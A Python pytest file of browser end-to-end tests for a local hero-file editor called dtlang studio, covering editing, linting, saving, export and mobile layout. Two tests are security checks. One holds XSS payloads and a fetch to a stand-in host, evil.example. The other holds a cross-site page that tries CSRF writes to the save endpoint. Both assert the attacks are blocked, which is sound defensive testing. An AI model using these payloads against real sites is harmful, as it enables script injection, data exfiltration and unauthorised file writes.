"""The page in a real browser, as somebody uses it who has never seen it before."""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread

import pytest

from dtlang.studio.server import Studio
from tests.studio.browser import CHROMIUM, Browser, browsing, waiting
from tests.studio.conftest import WITCH

MISTAKE = "4 [sword]: Deel 5 dmg."


def opened(browser: Browser, studio: Studio, name: str = "witch.hero") -> None:
    browser.go(f"{studio.address}#{name}")
    browser.until("!!window.studio?.drawn")


def put_cursor(browser: Browser, words: str, *, select: bool = False) -> None:
    """A click into the text before some words, or on them."""
    browser.run(
        f"""(() => {{ const view = studio.app.view, at = view.state.doc.toString().indexOf({words!r});
        const selection = {{anchor: at, head: at + {len(words) if select else 0}}};
        view.dispatch({{selection, scrollIntoView: true}}); view.focus(); }})()"""
    )


def text(browser: Browser) -> str:
    return str(browser.run("studio.app.text()"))


BOARD = "document.querySelector('.paper iframe:not(.coming)').contentDocument.body.innerText"


def test_from_the_template_to_a_saved_hero_by_mouse(browser: Browser, studio: Studio, home: Path) -> None:
    browser.go(studio.address)
    browser.click("dialog input")
    browser.write("Zed of the Hills")
    browser.click("dialog button", says="Begin")
    browser.until("document.querySelector('#problems-count').innerText === 'No problems'")
    browser.until(f"{BOARD}.toLowerCase().includes('zed of the hills')")

    put_cursor(browser, "Deal 5 dmg.", select=True)
    browser.write("Deel 5 dmg.")
    browser.until("document.querySelector('#problems-count').innerText === '1 error'")
    assert "dtlang does not know the word `Deel`" in browser.text("#problem-list")
    browser.until("document.querySelectorAll('.cm-lintRange-error').length === 1")
    assert MISTAKE in browser.text("#problem-list .old")
    browser.click("#problem-list .fix", says="Write `Deal`")
    browser.until("document.querySelector('#problems-count').innerText === 'No problems'")
    assert "4 [sword]: Deal 5 dmg." in text(browser)

    put_cursor(browser, "Deal 5 dmg.", select=True)
    browser.write("Deal 44 dmg.")
    browser.until(f"{BOARD}.includes('44')")

    browser.click("#save")
    browser.until("document.querySelector('dialog input')?.value === 'zed_of_the_hills.hero'")
    browser.click("dialog button", says="Save")
    browser.until("document.querySelector('#saved').innerText === 'saved'")
    assert "Deal 44 dmg." in (home / "zed_of_the_hills.hero").read_text(encoding="utf-8")

    browser.click("#out")
    browser.click(".menu button", says="PDF")
    made = browser.profile / "downloads" / "zed_of_the_hills.pdf"
    waiting(lambda: made.is_file() and made.read_bytes().startswith(b"%PDF"))


def test_the_box_of_the_cursor_is_lit_and_a_click_on_a_box_goes_to_its_text(
    browser: Browser, studio: Studio
) -> None:
    opened(browser, studio)
    put_cursor(browser, "Deal 12 dmg.")
    boxes = "[...document.querySelector('.paper iframe').contentDocument.querySelectorAll('[data-of]')]"
    browser.run(
        f"""window.box = (name) => {{ const frame = document.querySelector('.paper iframe');
        const at = {boxes}.find((one) => one.dataset.of === name).getBoundingClientRect();
        const scale = frame.getBoundingClientRect().width / frame.offsetWidth;
        const paper = document.querySelector('.paper').getBoundingClientRect();
        return [paper.left + at.left * scale, paper.top + at.top * scale]; }}; 0"""
    )
    browser.until(
        """(() => { const lit = document.querySelector('.lit i')?.getBoundingClientRect();
        const [x, y] = box('Sunfall');
        return lit && Math.abs(lit.left - x) < 2 && Math.abs(lit.top - y) < 2; })()"""
    )
    x, y = browser.run("box('Wildfire').map((at) => at + 25)")
    browser.click_at(x, y)
    browser.until("(() => { const {state} = studio.app.view, at = state.selection.main;"
                  "return state.sliceDoc(at.from, at.to) === 'Wildfire'; })()")  # fmt: skip


def test_a_file_that_changed_on_the_disk(browser: Browser, studio: Studio, home: Path) -> None:
    """Without changes of one's own the new text comes by itself; with some nothing is lost on either side."""
    opened(browser, studio)
    (home / "witch.hero").write_text(WITCH.replace("Deal 12 dmg.", "Deal 13 dmg."), encoding="utf-8")
    browser.until("studio.app.text().includes('Deal 13 dmg.')")
    put_cursor(browser, "Deal 13 dmg.", select=True)
    browser.write("Deal 14 dmg.")
    (home / "witch.hero").write_text(WITCH.replace("Deal 12 dmg.", "Deal 15 dmg."), encoding="utf-8")
    browser.until("document.querySelector('#notice').innerText.includes('changed by another program')")
    browser.press("Control+s")
    browser.run("new Promise((done) => setTimeout(done, 300))")
    assert "Deal 15 dmg." in (home / "witch.hero").read_text(encoding="utf-8")
    assert "Deal 14 dmg." in text(browser)
    browser.click("#notice button", says="Save mine under another name")
    browser.until(
        "document.activeElement.value === 'ember_witch.hero' && document.activeElement.selectionEnd > 0"
    )
    browser.write("mine")
    browser.press("Enter")
    browser.until("document.querySelector('#file').innerText === 'mine.hero'")
    assert "Deal 14 dmg." in (home / "mine.hero").read_text(encoding="utf-8")
    assert "Deal 15 dmg." in (home / "witch.hero").read_text(encoding="utf-8")


def test_what_happens_and_how_often(browser: Browser, studio: Studio) -> None:
    opened(browser, studio)
    put_cursor(browser, "Deal 5 dmg.")
    browser.click("[role=tab]", says="What happens")
    browser.until(
        "document.querySelector('.told.here')?.innerText.includes('You deal the target 5 normal damage')"
    )
    browser.until("document.querySelector('#panel-meaning .story')?.innerText.includes('activates Firebolt')")
    browser.click("[role=tab]", says="Odds")
    browser.until("document.querySelector('tr.here')?.innerText.includes('87.9 %')")
    faces = "[...document.querySelectorAll('#panel-odds .die b')].map((one) => one.innerText).join(' ')"
    browser.until(f"{faces} === '1 2 3 4 6'")
    browser.click("#panel-odds .die", says="6")
    browser.until(f"{faces} === '1 2 3 4 1'")
    browser.until("document.querySelector('#panel-odds').innerText.includes('Firebolt (3 [flame])')")


def test_rolled_activated_and_kept_as_a_test(browser: Browser, studio: Studio) -> None:
    """The scene becomes a test that passes, and that fails when the hero changes."""
    opened(browser, studio)
    browser.click("[role=tab]", says="Try it")
    browser.click("#roll")
    browser.until("document.querySelectorAll('#panel-trying .die').length === 5")
    while not browser.run("!!document.querySelector('.fit')"):
        browser.click("button", says="From the start")
        browser.run("new Promise((done) => setTimeout(done, 200))")
    browser.click(".fit")
    browser.until("document.querySelector('.result .story')?.innerText.includes('activates')")
    before = len(text(browser))
    browser.click("#keep-test")
    browser.until("studio.app.text().includes('test A scene to keep')")
    assert "expect your opponent has" in text(browser)[before:]
    browser.click("[role=tab]", says="Tests")
    passed = "document.querySelector('#test-summary').innerText"
    browser.until(f"/^(\\d+) of \\1 pass$/.test({passed})")
    put_cursor(browser, "expect your opponent has 38 Health", select=True)
    browser.write("expect your opponent has 37 Health")
    browser.until(f"{passed}.includes(' pass') && !/^(\\d+) of \\1 pass$/.test({passed})")
    assert "38" in browser.text(".tests .why")


def test_a_game_against_a_bot(browser: Browser, studio: Studio) -> None:
    opened(browser, studio)
    browser.click("[role=tab]", says="Try it")
    browser.click(".choose button", says="Against a bot")
    browser.click("#newgame")
    for _ in range(12):
        browser.until("!!document.querySelector('.ask button')")
        asked = browser.run("studio.asked = document.querySelector('.told-game').parentElement.innerText")
        browser.click(
            ".options button" if browser.run("!!document.querySelector('.options')") else ".ask button.main"
        )
        browser.until("document.querySelector('.told-game').parentElement.innerText !== studio.asked")
        assert asked
    assert "rolls" in browser.text(".told-game")


def test_balance_and_what_a_change_did_to_it(browser: Browser, studio: Studio) -> None:
    opened(browser, studio)
    browser.click("[role=tab]", says="Balance")
    browser.until("document.querySelectorAll('.who input').length > 5")
    browser.run("for (const one of document.querySelectorAll('.who input:checked')) one.click()")
    browser.click(".who label", says="tideline fencer")
    browser.run("document.querySelector('#panel-balance select').value = '50'")
    browser.click("#play-games")
    browser.until("document.querySelector('#panel-balance tbody')?.innerText.includes('10')")
    browser.click("#play-games", says="Stop")
    browser.until("document.querySelector('#panel-balance [role=status]').innerText === 'stopped'")
    browser.click("#play-games", says="Play")
    browser.until(
        "document.querySelector('#panel-balance tbody .num:nth-child(4)').innerText.includes('chance')"
    )
    browser.click("#play-games", says="Stop")
    browser.until("document.querySelector('#play-games').innerText === 'Play'")


def test_changes_as_patch_notes(browser: Browser, studio: Studio) -> None:
    opened(browser, studio)
    put_cursor(browser, "Deal 5 dmg.", select=True)
    browser.write("Deal 6 dmg.")
    browser.click("[role=tab]", says="Changes")
    browser.until("document.querySelector('.notes').innerText.includes('Firebolt, 4 [flame]: 5 -> 6 dmg')")
    browser.click("#save")
    browser.until("document.querySelector('#panel-changes').innerText.includes('Nothing has changed.')")


def test_by_the_keys_alone(browser: Browser, studio: Studio, home: Path) -> None:
    """Begin, write, mend, look, save, roll, activate, keep as a test, print to PDF: without a mouse."""
    browser.go(studio.address)
    browser.until("document.activeElement?.placeholder === 'Name of your hero'")
    browser.write("Zed")
    browser.press("Enter")
    browser.until("document.querySelector('#problems-count').innerText === 'No problems'")
    browser.press("Control+p")
    browser.until("document.activeElement?.placeholder === 'Part of the hero'")
    browser.write("offensive slash")
    browser.press("Enter")
    browser.until("studio.app.view.hasFocus && studio.app.view.state.selection.main.head > 0")
    for key in ("ArrowDown", "ArrowDown", "End"):
        browser.press(key)
    browser.write(" Drwa 1 card.")
    browser.press("Escape")  # what could be written there
    browser.until("document.querySelector('#problems-count').innerText === '1 error'")
    browser.press("F8")
    browser.until("studio.app.text().slice(studio.app.view.state.selection.main.from).startsWith('Drwa')")
    browser.press("Control+.")
    browser.until("document.activeElement.classList.contains('fix')")
    browser.press("Enter")
    # Only that the upgrade of this ability draws no card.
    browser.until("document.querySelector('#problems-count').innerText === '1 warning'")
    assert "3 [sword]: Deal 4 dmg. Draw 1 card." in text(browser)
    browser.until(f"{BOARD}.includes('1 card')")
    browser.press("Control+s")
    browser.until("document.activeElement?.value === 'zed.hero'")
    browser.press("Enter")
    waiting(lambda: (home / "zed.hero").is_file())

    browser.press("Alt+4")
    browser.until("document.activeElement.id === 'tab-trying'")
    for _ in range(12):
        if browser.run("document.activeElement.id") == "roll":
            break
        browser.press("Tab")
    browser.press("Enter")
    browser.until("document.querySelectorAll('#panel-trying .die').length === 5")
    for _ in range(200):
        if browser.run("document.activeElement.classList.contains('fit')"):
            break
        browser.press("Tab")
        if browser.run("document.activeElement.innerText") == "From the start" and not browser.run(
            "!!document.querySelector('.fit')"
        ):
            browser.press("Enter")
            browser.run("new Promise((done) => setTimeout(done, 250))")
    browser.press("Enter")
    browser.until("document.activeElement.id === 'again'")
    browser.press("Tab")
    browser.press("Enter")
    browser.until("studio.app.text().includes('test A scene to keep') && studio.app.view.hasFocus")
    browser.press("Alt+5")
    browser.until("document.querySelector('#test-summary').innerText === '1 of 1 pass'")

    browser.press("Alt+0")
    browser.press("Escape")
    for _ in range(8):
        browser.press("Shift+Tab")
        if browser.run("document.activeElement.id") == "out":
            break
    browser.press("Enter")
    browser.until("document.activeElement.innerText.includes('Print the board')")
    for _ in range(4):
        browser.press("ArrowDown")
    browser.press("Enter")
    made = browser.profile / "downloads" / "zed.pdf"
    waiting(lambda: made.is_file() and made.read_bytes().startswith(b"%PDF"))


def test_on_a_phone(browser: Browser, studio: Studio, home: Path) -> None:
    """Nothing sticks out, everything can be hit with a thumb, and a hero is mended, tried and saved."""
    browser.size(390, 844, phone=True)
    opened_by = "[...document.querySelectorAll('body *')].filter((one) => one.checkVisibility())"
    browser.go(f"{studio.address}#witch.hero")
    browser.until("!!window.studio?.checked")
    assert browser.run("document.documentElement.scrollWidth <= innerWidth")
    put_cursor(browser, "Deal 5 dmg.", select=True)
    browser.write("Deel 5 dmg.")
    browser.click("#problem-list .fix", says="Write `Deal`")
    browser.until("document.querySelector('#problems-count').innerText === 'No problems'")
    for name in ("Sheets", "Meaning", "Odds", "Try it", "Tests", "Balance", "Changes"):
        browser.click("#switch button", says=name)
        browser.run("new Promise((done) => setTimeout(done, 300))")
        assert browser.run("document.documentElement.scrollWidth <= innerWidth"), name
        low = browser.run(
            f"{opened_by}.filter((one) => one.matches('#switch button, #bar button'))"
            ".map((one) => one.getBoundingClientRect().height).sort((a, b) => a - b)[0]"
        )
        assert low >= 40, name
        assert not browser.run("document.querySelector('#left').checkVisibility()"), name
    browser.click("#switch button", says="Try it")
    browser.click("#roll")
    browser.until("document.querySelectorAll('#panel-trying .die').length === 5")
    tops = browser.run("[...document.querySelectorAll('#panel-trying .die')].map((one) => one.offsetTop)")
    assert 1 == len(set(tops)), "the dice lie in one row"
    browser.click("#switch button", says="Text")
    put_cursor(browser, "Deal 5 dmg.", select=True)
    browser.write("Deal 6 dmg.")
    browser.click("#save")
    waiting(lambda: "Deal 6 dmg." in (home / "witch.hero").read_text(encoding="utf-8"))


def test_words_at_the_cursor_and_a_new_name_everywhere(browser: Browser, studio: Studio) -> None:
    opened(browser, studio)
    put_cursor(browser, "Deal 12 dmg.", select=True)
    browser.write("Gain 1 He")
    browser.press("Control+ ")
    browser.until("document.querySelector('.completions')?.innerText.includes('Heat')")
    browser.press("Escape")
    browser.press("Control+z")
    browser.until("studio.app.text().includes('Deal 12 dmg.')")
    put_cursor(browser, "Cinder\n  negative")
    browser.press("F2")
    browser.until("document.activeElement?.value === 'Cinder'")
    browser.write("Soot")
    browser.press("Enter")
    browser.until("studio.app.text().includes('status Soot') && studio.app.text().includes('inflict Soot.')")
    browser.until("document.querySelector('#problems-count').innerText === 'No problems'")
    browser.until(f"{BOARD}.includes('Soot')")
    browser.press("Control+z")
    browser.until("studio.app.text().includes('status Cinder') && !studio.app.text().includes('Soot.')")


HTML = "<script>top.evil=1</script><img src='http://evil.example/x.png' onerror='top.evil=1'>"
HOSTILE = (
    WITCH.replace("author the dtlang authors", f"author {HTML}")
    .replace(
        "inflict Cinder.\n", f'inflict Cinder.\n  note {HTML}\n  rule "{HTML.replace(chr(39), "")}"\n', 1
    )
    .replace("test Falling", f"test {HTML} Falling")
)


def test_a_hostile_hero(browser: Browser, studio: Studio, home: Path) -> None:
    """Whatever a hero holds is text: no script runs, nothing is fetched, in no sheet and no panel."""
    assert 4 == HOSTILE.count("evil.example")
    (home / "evil.hero").write_text(HOSTILE, encoding="utf-8")
    opened(browser, studio, "evil.hero")
    put_cursor(browser, "offensive Firebolt")
    for part in ("Leaflet", "Cards", "Tokens", "Board"):
        browser.click(".choose button", says=part)
        browser.run("new Promise((done) => setTimeout(done, 300))")
    for name in ("What happens", "Odds", "Try it", "Tests", "Changes"):
        browser.click("[role=tab]", says=name)
        browser.run("new Promise((done) => setTimeout(done, 300))")
    assert "<script>" in browser.text("#panel-tests")
    assert browser.run(
        "window.evil === undefined && !document.querySelector('img:not(.cm-widgetBuffer), object, embed')"
    )
    assert "allow-same-origin" == browser.run(
        "document.querySelector('.paper iframe').getAttribute('sandbox')"
    )
    frame = "document.querySelector('.paper iframe').contentDocument"
    assert browser.run(f"{frame}.querySelectorAll('script, [onerror], iframe').length === 0")
    assert [] == browser.complaints

    # And if something got through: the frame runs no script, and the page sends nothing away.
    browser.run(
        f"""(() => {{ for (const page of [{frame}, document]) {{
        const put = (tag, more) => page.body.append(Object.assign(page.createElement(tag), more));
        put('script', {{textContent: 'top.evil = 1'}}); put('iframe', {{src: 'http://evil.example/'}});
        put('img', {{src: 'http://evil.example/y.png'}}); }} }})()"""
    )
    browser.run("fetch('http://evil.example/?' + studio.app.text().length).catch(() => {})")
    browser.run("new Promise((done) => setTimeout(done, 300))")
    assert browser.run("window.evil === undefined")
    assert any("Content Security Policy" in one for one in browser.complaints)
    browser.complaints.clear()
    blocked = [one for one in browser.asked_for if "evil.example" in one]
    assert browser.failed.issuperset(blocked), "asked for, and stopped before it left"
    browser.asked_for[:] = [one for one in browser.asked_for if one not in blocked]


@pytest.fixture
def elsewhere(studio: Studio) -> Iterator[str]:
    """A page of somebody else, who even knows the token."""
    asked = f"{studio.address}folder/save"
    body = '{"path": "stolen.hero", "text": "hero Stolen"}'
    there = studio.address
    page = f"""<!DOCTYPE html><script type="module" src="{there}main.js"></script>
        <iframe src="{there}"></iframe><img src="{there}icon.svg">
        <form id=f method=post enctype="text/plain" action="{asked}" target=x>
        <input name='{body[:-1]}, "a": "' value='"}}'></form><iframe name=x></iframe>
        <script>window.tried = (async () => {{ const got = [];
        const json = "application/json", plain = "text/plain";
        for (const [mode, kind] of [["cors", json], ["no-cors", plain], ["cors", plain]]) try {{
          const sent = {{method: "POST", mode, body: {body!r}, headers: {{"Content-Type": kind}}}};
          const answer = await fetch("{asked}", sent); got.push(answer.status + await answer.text());
        }} catch (error) {{ got.push("no"); }}
        try {{ got.push(await (await fetch("{there}")).text()); }} catch (error) {{ got.push("no"); }}
        f.submit(); await new Promise((done) => setTimeout(done, 300)); return got.join(); }})();</script>"""

    class Theirs(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Theirs)
    thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.mark.skipif(CHROMIUM is None, reason="needs chromium")
def test_the_page_of_somebody_else_gets_nothing(
    studio: Studio, home: Path, tmp_path: Path, elsewhere: str
) -> None:
    with browsing(tmp_path) as browser:
        browser.go(elsewhere)
        assert "no,no,no,no" == browser.until("window.tried")
        # The frame shows an error of the browser, not the studio.
        assert "undefined" == browser.run("typeof window.studio")
    assert ["more", "witch.hero"] == sorted(path.name for path in home.iterdir())


def test_a_pasted_text_and_a_dropped_picture(browser: Browser, studio: Studio, home: Path) -> None:
    browser.go(studio.address)
    browser.click("dialog textarea")
    browser.write("Roll 3 flames and deal 4 damage")
    browser.click("dialog button", says="Open this text")
    browser.until("document.querySelector('#problems-count').innerText.startsWith('1 error')")
    browser.click("#problem-list li.error .fix")
    browser.until("studio.app.errors === 0 && studio.app.text().includes('deal 4 dmg')")
    browser.click("#save")
    browser.until("document.activeElement?.value === 'pasted_text.hero'")
    browser.press("Enter")
    browser.until("studio.app.path === 'pasted_text.hero'")
    put_cursor(browser, "After you Attack")
    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9v9z"/></svg>'
    browser.run(
        f"""(() => {{ const dataTransfer = new DataTransfer();
        dataTransfer.items.add(new File([{svg!r}], 'My Star.svg', {{type: 'image/svg+xml'}}));
        document.querySelector('.cm-content').dispatchEvent(
            new DragEvent('drop', {{dataTransfer, bubbles: true, cancelable: true}})); }})()"""
    )
    waiting(lambda: (home / "my_star.svg").is_file())
    browser.click("dialog button", says="Icon of Focus")
    browser.until("studio.app.text().includes('status Focus\\n  icon my_star.svg\\n')")
    browser.until("document.querySelector('#problems-count').innerText !== '' && studio.app.errors === 0")
